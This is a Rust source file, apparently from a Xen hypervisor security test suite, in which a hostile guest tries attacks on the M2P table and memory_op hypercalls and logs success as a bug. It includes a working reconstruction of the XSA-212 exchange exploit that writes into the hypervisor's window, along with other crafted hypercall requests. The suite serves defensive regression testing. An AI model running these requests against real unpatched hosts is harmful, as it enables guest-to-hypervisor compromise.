//! Attacks on the machine-to-physical (M2P) table and the `memory_op` calls around it:
//! naming frames that are not the guest's in `MMU_MACHPHYS_UPDATE` (the hypervisor's
//! image, the table's own frames, a frame beyond RAM); mapping the table's frames or its
//! L3 (named in L4 slot 256) into its own tables, or pinning that L3; writing the table
//! through Xen's read-only mapping; exchanges that reach outside the guest (XSA-212: a
//! request that claims to be far into huge lists, so that the entry it writes is the
//! hypervisor's), that name frames it may not give (foreign, its L4, its shared info, one
//! frame twice), or whose counts, orders or domain are wrong; and the M2P queries written
//! into the hypervisor's window.
//!
//! Survivable attacks run in [`run`] (from `main`); the exchanges give up the unmapped
//! spare frame, which a refused exchange must leave the guest's: its M2P entry still
//! names its guest frame afterwards (an exchanged-away frame's reads ~0). One attack runs
//! in a domain of its own ([`crate::fatal`]): frames that leave the domain with an entry
//! the guest set ([`leak`]: given back and exchanged away, their entries must no longer
//! hold what the guest wrote, or the next owner would learn this guest's layout). This module
//! must never give away a frame the program uses, except through an attack the
//! hypervisor must refuse.

use guest_rt::abi::arch_x86::MACH2PHYS_VIRT_START;
use guest_rt::abi::hypercall::{Hypercall, MemoryOp, MmuUpdateCmd, MmuextCmd, ShutdownReason};
use guest_rt::abi::ids::{DomId, Mfn};
use guest_rt::abi::memory::{XenMachphysMfnList, XenMemoryExchange, XenMemoryReservation};
use guest_rt::abi::mmu::{MmuUpdate, MmuextOp, UVMF_INVLPG, UVMF_LOCAL};
use guest_rt::hypercall::{hypercall2, hypercall3, hypercall4, shutdown};
use guest_rt::layout::{PTE_ADDRESS_MASK, PTE_PRESENT, PTE_USER};
use guest_rt::{println, probe, traps};

use crate::targets::{Targets, HYPERVISOR_IMAGE};
use crate::verdict::{Outcome, Tally};

/// The first address of the hypervisor's window (the top 64 MiB).
const WINDOW: u64 = 0xFFFF_FFFF_FC00_0000;
/// The L4 slot of the table.
const M2P_SLOT: usize = 256;
/// `DOMID_SELF` as a register argument.
const SELF: u64 = DomId::SELF.0 as u64;
/// ~0: the entry of a frame no domain names.
const INVALID: u64 = u64::MAX;
/// What [`leak`] writes into its frames' entries before they leave.
const MARKER: u64 = 0x4c45_414b_0000;
/// Spare frames [`leak`] takes (see [`Targets::spare_frame`]); half given back, half
/// exchanged away.
const LEAK_FRAMES: u64 = 8;

/// Runs the survivable M2P attacks.
pub fn run(tally: &mut Tally, targets: &Targets) {
    let chunk = first_chunk();
    foreign_entries(tally, targets, chunk);
    table_frames(tally, targets, chunk);
    write_through_mapping(tally, targets);
    exchanges(tally, targets);
    queries(tally);
}

/// `mfn`'s entry, read through Xen's mapping (every frame of RAM has one).
fn entry(mfn: Mfn) -> u64 {
    // SAFETY: the table is mapped read-only for every frame of the machine; volatile
    // because the hypervisor writes it.
    unsafe { ((MACH2PHYS_VIRT_START + mfn.0 * 8) as *const u64).read_volatile() }
}

/// The first frame of the table (`machphys_mfn_list`), if the query answers.
fn first_chunk() -> Option<Mfn> {
    let mut first = 0u64;
    let mut list = XenMachphysMfnList {
        max_extents: 1,
        extent_start: &raw mut first as u64,
        ..Default::default()
    };
    // SAFETY: the call writes one entry into `first` and the struct.
    let ret = unsafe {
        hypercall2(
            Hypercall::MemoryOp,
            MemoryOp::MachphysMfnList.raw().into(),
            &raw mut list as u64,
        )
    };
    (ret == 0 && list.nr_extents == 1).then_some(Mfn(first))
}

/// One `MMU_MACHPHYS_UPDATE`; rax after it.
fn machphys_update(mfn: Mfn, pfn: u64) -> i64 {
    let request = MmuUpdate::new(MmuUpdateCmd::MachphysUpdate, mfn.address(), pfn);
    let mut done = 0u32;
    // SAFETY: an M2P update changes no page table.
    unsafe {
        hypercall4(
            Hypercall::MmuUpdate,
            &raw const request as u64,
            1,
            &raw mut done as u64,
            SELF,
        )
    }
}

/// `MMU_MACHPHYS_UPDATE` of frames that are not the guest's: refused, entries unchanged.
fn foreign_entries(tally: &mut Tally, targets: &Targets, chunk: Option<Mfn>) {
    let mut frames = [
        ("the hypervisor image", Some(HYPERVISOR_IMAGE)),
        ("the M2P table's first frame", chunk),
    ];
    for (what, mfn) in &mut frames {
        let attack = format_args!("MMU_MACHPHYS_UPDATE of {what}");
        let Some(mfn) = *mfn else {
            tally.record(
                attack,
                Outcome::NotPrepared {
                    step: "machphys_mfn_list",
                    errno: 0,
                },
            );
            continue;
        };
        let outcome = targets.unless_own(mfn, || {
            let before = entry(mfn);
            let ret = machphys_update(mfn, 0x1234);
            if ret >= 0 || entry(mfn) != before {
                Outcome::Succeeded
            } else {
                Outcome::of_call(ret)
            }
        });
        tally.record(
            format_args!("MMU_MACHPHYS_UPDATE of {what} (mfn {:#x})", mfn.0),
            outcome,
        );
    }
    let beyond = Mfn(0xFFFF_FFFF);
    tally.record(
        format_args!("MMU_MACHPHYS_UPDATE of a frame beyond RAM"),
        Outcome::of_call(machphys_update(beyond, 1)),
    );
}

/// `update_va_mapping` of the hole to `pte`; rax after it.
fn map_hole(targets: &Targets, pte: u64) -> i64 {
    // SAFETY: the program does not use the hole; whatever it maps is never accessed.
    unsafe {
        hypercall3(
            Hypercall::UpdateVaMapping,
            targets.hole,
            pte,
            UVMF_INVLPG | UVMF_LOCAL,
        )
    }
}

/// The table's frames and its L3 mapped (read-only) at the hole, and the L3 pinned.
fn table_frames(tally: &mut Tally, targets: &Targets, chunk: Option<Mfn>) {
    let l3 = Mfn::containing(targets.l4.entry(M2P_SLOT) & PTE_ADDRESS_MASK);
    let mut frames = [
        ("the M2P table's first frame", chunk),
        ("the M2P L3 (L4 slot 256)", Some(l3)),
    ];
    for (what, mfn) in &mut frames {
        let Some(mfn) = *mfn else { continue };
        let ret = map_hole(targets, mfn.address() | PTE_PRESENT | PTE_USER);
        if tally.record(
            format_args!("map {what} (mfn {:#x}) read-only", mfn.0),
            Outcome::of_call(ret),
        ) {
            map_hole(targets, 0);
        }
    }
    let pin = MmuextOp {
        cmd: MmuextCmd::PinL3Table.raw(),
        arg1: l3.0,
        ..MmuextOp::default()
    };
    let mut done = 0u32;
    // SAFETY: a pin changes no mapping; it must be refused (the frame is not ours).
    let ret = unsafe {
        hypercall4(
            Hypercall::MmuextOp,
            &raw const pin as u64,
            1,
            &raw mut done as u64,
            SELF,
        )
    };
    tally.record(
        format_args!("pin the M2P L3 (mfn {:#x}) as an L3", l3.0),
        Outcome::of_call(ret),
    );
}

/// A write to an own frame's entry through Xen's mapping: it must fault, and change
/// nothing.
fn write_through_mapping(tally: &mut Tally, targets: &Targets) {
    let attack = format_args!("write an own frame's M2P entry through the read-only mapping");
    if probe::install().is_err() {
        tally.record(
            attack,
            Outcome::NotPrepared {
                step: "installing the probe",
                errno: 0,
            },
        );
        return;
    }
    let mfn = targets.guard.mfn;
    let before = entry(mfn);
    // SAFETY: the table is read-only: the write must fault. Were it to go through, the
    // entry is set back below (it is only read by this guest's checks).
    let written = unsafe { probe::write(MACH2PHYS_VIRT_START + mfn.0 * 8, 0x4141) };
    let _ = traps::clear_handler(traps::Vector::PAGE_FAULT);
    let _ = traps::clear_handler(traps::Vector::GENERAL_PROTECTION);
    let outcome = match written {
        Err(fault) if entry(mfn) == before => Outcome::Fault {
            vector: fault.vector,
            error_code: fault.error_code,
        },
        _ => Outcome::Succeeded,
    };
    if tally.record(attack, outcome) {
        machphys_update(mfn, before);
    }
}

/// An exchange request of single frames: `input` for `outputs` extents of `2^out_order`.
fn request(
    input: &mut [u64],
    output: &mut [u64],
    out_order: u32,
    nr_exchanged: u64,
) -> XenMemoryExchange {
    let side = |list: &mut [u64], order: u32| XenMemoryReservation {
        extent_start: list.as_mut_ptr() as u64,
        nr_extents: list.len() as u64,
        extent_order: order,
        domid: DomId::SELF,
        ..Default::default()
    };
    XenMemoryExchange {
        input: side(input, 0),
        output: side(output, out_order),
        nr_exchanged,
    }
}

/// `XENMEM_exchange`; rax after it.
fn exchange(x: &mut XenMemoryExchange) -> i64 {
    // SAFETY: every exchange here must be refused before a frame moves; the spare frame
    // it names is unmapped and unused, and is checked afterwards.
    unsafe {
        hypercall2(
            Hypercall::MemoryOp,
            MemoryOp::Exchange.raw().into(),
            x as *mut XenMemoryExchange as u64,
        )
    }
}

/// Exchanges that must be refused before a frame moves: the spare frame (unmapped,
/// unused, its entry its own guest frame) must still be the guest's afterwards.
fn exchanges(tally: &mut Tally, targets: &Targets) {
    let spare = targets.spare;
    let pfn = entry(spare);
    let judge = |tally: &mut Tally, attack: core::fmt::Arguments<'_>, ret: i64| {
        let outcome = if ret < 0 && entry(spare) == pfn {
            Outcome::of_call(ret)
        } else {
            Outcome::Succeeded
        };
        tally.record(attack, outcome);
    };

    // XSA-212, XTF's request: one entry, far into lists of 2^61 entries; the input list
    // placed so that the entry read is the spare frame's (its address wraps around), the
    // output so that the entry written is the first word of the hypervisor's window.
    let mut spare_list = [spare.0];
    let far = WINDOW / 8;
    let mut x = XenMemoryExchange {
        input: XenMemoryReservation {
            extent_start: (spare_list.as_mut_ptr() as u64).wrapping_sub(WINDOW),
            nr_extents: far + 1,
            domid: DomId::SELF,
            ..Default::default()
        },
        output: XenMemoryReservation {
            extent_start: 0,
            nr_extents: far + 1,
            mem_flags: 32,
            domid: DomId::SELF,
            ..Default::default()
        },
        nr_exchanged: far,
    };
    judge(
        tally,
        format_args!(
            "XSA-212: an exchange far into its lists, writing into the hypervisor's window"
        ),
        exchange(&mut x),
    );
    // The same with an honest input list: the output alone reaches the window.
    let mut x = XenMemoryExchange {
        input: XenMemoryReservation {
            extent_start: spare_list.as_mut_ptr() as u64,
            nr_extents: 1,
            domid: DomId::SELF,
            ..Default::default()
        },
        output: XenMemoryReservation {
            extent_start: WINDOW,
            nr_extents: 1,
            domid: DomId::SELF,
            ..Default::default()
        },
        nr_exchanged: 0,
    };
    judge(
        tally,
        format_args!("exchange whose output list is the hypervisor's window"),
        exchange(&mut x),
    );

    let mut out = [0u64; 2];
    let mut x = request(&mut spare_list, &mut out[..1], 0, 2);
    judge(
        tally,
        format_args!("exchange with nr_exchanged past the input count"),
        exchange(&mut x),
    );
    let mut x = request(&mut spare_list, &mut out, 0, 0);
    judge(
        tally,
        format_args!("exchange of 1 frame for 2"),
        exchange(&mut x),
    );
    let mut x = request(&mut spare_list, &mut out[..1], 10, 0);
    x.input.extent_order = 10;
    judge(
        tally,
        format_args!("exchange of extent order 10 (a domU's limit is 9)"),
        exchange(&mut x),
    );
    let mut x = request(&mut spare_list, &mut out[..1], 0, 0);
    x.input.domid = DomId(0);
    x.output.domid = DomId(0);
    judge(
        tally,
        format_args!("exchange of domain 0's frames"),
        exchange(&mut x),
    );
    let mut x = request(&mut spare_list, &mut out[..1], 0, 0);
    x.output.domid = DomId(0);
    judge(
        tally,
        format_args!("exchange with different domains on its two sides"),
        exchange(&mut x),
    );

    let mut named = [
        ("the hypervisor image", HYPERVISOR_IMAGE),
        ("its own L4", targets.l4.mfn),
        ("its shared info frame", targets.shared_info),
        ("a frame it still maps", targets.guard.mfn),
    ];
    for (what, mfn) in &mut named {
        // One chunk: the spare frame first (taken), then the frame that must be refused.
        let mut input = [spare.0, mfn.0];
        let mut x = request(&mut input, &mut out[..1], 1, 0);
        let ret = exchange(&mut x);
        judge(
            tally,
            format_args!(
                "exchange of the spare frame and {what} (mfn {:#x}) in one chunk",
                mfn.0
            ),
            ret,
        );
    }
    let mut twice = [spare.0, spare.0];
    let mut x = request(&mut twice, &mut out[..1], 1, 0);
    judge(
        tally,
        format_args!("exchange of the spare frame twice in one chunk"),
        exchange(&mut x),
    );
}

/// The M2P queries with their results aimed at the hypervisor's window, and a start
/// extent on a command that takes none.
fn queries(tally: &mut Tally) {
    let mut list = XenMachphysMfnList {
        max_extents: 4,
        extent_start: WINDOW,
        ..Default::default()
    };
    // SAFETY: the hypervisor must refuse to write its own window; it writes nothing else.
    let ret = unsafe {
        hypercall2(
            Hypercall::MemoryOp,
            MemoryOp::MachphysMfnList.raw().into(),
            &raw mut list as u64,
        )
    };
    tally.record(
        format_args!("machphys_mfn_list into the hypervisor's window"),
        Outcome::of_call(ret),
    );
    // SAFETY: as above.
    let ret = unsafe {
        hypercall2(
            Hypercall::MemoryOp,
            MemoryOp::MachphysMapping.raw().into(),
            WINDOW,
        )
    };
    tally.record(
        format_args!("machphys_mapping into the hypervisor's window"),
        Outcome::of_call(ret),
    );
    let cmd = u64::from(MemoryOp::MaximumRamPage.raw()) | 1 << 6;
    // SAFETY: the command takes no argument.
    let ret = unsafe { hypercall2(Hypercall::MemoryOp, cmd, 0) };
    tally.record(
        format_args!("maximum_ram_page with a start extent"),
        Outcome::of_call(ret),
    );
}

/// Names [`LEAK_FRAMES`] spare frames with a marker in the table, then gives half of them
/// back and exchanges the other half away: no entry may still hold the marker (each reads
/// ~0, or whatever a domain that took the frame since named it: other domains run
/// meanwhile). Powers off when none does.
pub fn leak(targets: &Targets) -> ! {
    println!("hostile: attack m2p_leak: {LEAK_FRAMES} frames named {MARKER:#x}.. in the M2P table, then given back and exchanged away");
    let mut frames = [0u64; LEAK_FRAMES as usize];
    for (i, slot) in frames.iter_mut().enumerate() {
        let Some(frame) = targets.spare_frame(i as u64) else {
            fail("too few spare frames")
        };
        if machphys_update(frame.mfn, MARKER + i as u64) < 0
            || entry(frame.mfn) != MARKER + i as u64
        {
            fail("MMU_MACHPHYS_UPDATE of an own frame");
        }
        // SAFETY: a spare page nothing uses.
        if unsafe {
            hypercall3(
                Hypercall::UpdateVaMapping,
                frame.va,
                0,
                UVMF_INVLPG | UVMF_LOCAL,
            )
        } < 0
        {
            fail("unmapping a spare page");
        }
        *slot = frame.mfn.0;
    }
    let (back, away) = frames.split_at_mut(LEAK_FRAMES as usize / 2);
    let mut given = XenMemoryReservation {
        extent_start: back.as_mut_ptr() as u64,
        nr_extents: back.len() as u64,
        domid: DomId::SELF,
        ..Default::default()
    };
    // SAFETY: the frames are unmapped and unused.
    let ret = unsafe {
        hypercall2(
            Hypercall::MemoryOp,
            MemoryOp::DecreaseReservation.raw().into(),
            &raw mut given as u64,
        )
    };
    if ret != back.len() as i64 {
        fail("decrease_reservation");
    }
    let first = targets.spare_pfns.start;
    let mut wanted: [u64; LEAK_FRAMES as usize / 2] = core::array::from_fn(|i| first + i as u64);
    let mut input = [0u64; LEAK_FRAMES as usize / 2];
    input.copy_from_slice(away);
    let mut x = request(&mut input, &mut wanted, 0, 0);
    if exchange(&mut x) != 0 || x.nr_exchanged != input.len() as u64 {
        fail("exchange");
    }
    let left: [u64; LEAK_FRAMES as usize] = core::array::from_fn(|i| entry(Mfn(frames[i])));
    let marked = left
        .iter()
        .filter(|&&e| (MARKER..MARKER + LEAK_FRAMES).contains(&e))
        .count();
    if marked > 0 {
        println!("hostile: attack m2p_leak: SUCCEEDED (BUG): {marked} entries still hold the marker: {left:x?}");
        shutdown(ShutdownReason::Crash);
    }
    // The new frames hold the guest frames asked for.
    if !wanted
        .iter()
        .enumerate()
        .all(|(i, &new)| entry(Mfn(new)) == first + i as u64)
    {
        fail("the exchanged frames' entries");
    }
    let cleared = left.iter().filter(|&&e| e == INVALID).count();
    println!("hostile: attack m2p_leak: refused (no entry left behind holds the marker; {cleared} of {LEAK_FRAMES} read ~0, the rest were taken again since)");
    shutdown(ShutdownReason::Poweroff)
}

fn fail(step: &str) -> ! {
    println!("hostile: attack m2p_leak: NOT MADE: {step} failed (BUG)");
    shutdown(ShutdownReason::Crash)
}
